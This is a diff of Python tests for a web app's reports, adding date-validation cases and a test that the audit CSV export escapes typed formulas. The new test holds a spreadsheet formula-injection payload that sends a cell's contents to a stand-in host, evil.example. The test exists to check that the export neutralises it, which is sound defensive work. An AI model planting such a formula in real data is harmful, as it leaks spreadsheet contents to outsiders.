@@ -185,7 +185,9 @@ def test_markets_stay_private_and_bad_input_is_refused(history, web, make):
     mine = _csv(web.get(f"/reports/rates.csv?{PERIOD}"))  # all of their markets: Kenya only
     assert mine[1] == ["approved", "0", "1", "0.0"]
     for bad, words in (("from=2026-13-01", "is not a date"), ("from=2026-11-10&to=2026-11-01", "start before"),
-                       ("from=2020-01-01&to=2026-01-01", "at most"), ("from=x", "is not a date")):
+                       ("from=2020-01-01&to=2026-01-01", "at most"), ("from=x", "is not a date"),
+                       ("to=0001-01-01", "Choose a date between 2000-01-01 and 2999-12-31."),
+                       ("from=9999-12-20&to=9999-12-31", "Choose a date between")):
         page = web.get(f"/reports?{bad}")
         assert page.status_code == 400, bad  # the page, saying what is wrong, with the default period meanwhile
         assert words in page.get_data(as_text=True) and 'id="approval-rate"' in page.get_data(as_text=True), bad
@@ -238,3 +240,14 @@ def test_only_admins_see_the_audit_page(history, web):
     web.login(history["pm"])
     assert web.get("/reports/audit").status_code == 403
     assert web.get("/reports/audit.csv").status_code == 403
+
+
+def test_the_audit_export_keeps_a_typed_formula_as_text(make, admin_web):
+    """A comment is what a person typed: "=HYPERLINK(...)" opened in a spreadsheet would run, sending the sheet's
+    cells away. The export writes it with a leading apostrophe, as text."""
+    fr = make.market("FR")
+    post = make.post(State.draft, account=make.account(fr))
+    make.act(post, Action.submit, post.created_by, comment='=HYPERLINK("http://evil.example/?"&A1,"Click")')
+    rows = _csv(admin_web.get("/reports/audit.csv?market=FR"))
+    comments = [r[8] for r in rows[1:] if r[4] == "submit"]
+    assert comments == ['\'=HYPERLINK("http://evil.example/?"&A1,"Click")']
